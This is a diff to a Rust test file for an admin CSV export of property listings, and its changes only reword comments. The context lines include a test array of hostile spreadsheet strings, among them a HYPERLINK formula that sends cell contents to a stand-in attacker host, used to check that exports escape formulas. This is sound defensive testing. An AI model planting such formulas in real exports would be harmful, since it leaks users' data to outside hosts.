@@ -1,4 +1,4 @@
-//! Listings as files: those that match or are ticked, exact, safe to open, and the same again after an import.
+//! Exports: the matching or selected listings, exact, safe to open, and the same after an import.
 
 use super::imports::import;
 use crate::harness::{Browser, Page, Plan, Shell, Shows as _, spawn_staffed};
@@ -51,7 +51,7 @@ async fn ticked_listings_are_downloaded_or_all_that_match_and_nothing_by_an_unre
         let csv = staff.submit("/admin/properties/", &fields).await;
         assert_eq!(ids(csv.assert_status(200).text()), want, "{ticked:?}");
     }
-    // What can’t be read is refused.
+    // Invalid queries are refused.
     for query in ["", "format=xls", "format=csv&min_price=cheap"] {
         export(&staff, query).await.assert_status(400);
     }
@@ -60,7 +60,7 @@ async fn ticked_listings_are_downloaded_or_all_that_match_and_nothing_by_an_unre
     export(&app.stranger(), "format=csv").await.assert_status(302);
 }
 
-/// Texts that a spreadsheet would run, or that look as if a download had changed them.
+/// Texts that a spreadsheet would execute, or that look as if an export had escaped them.
 const HOSTILE: [&str; 8] = [
     "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
     "+1+1",
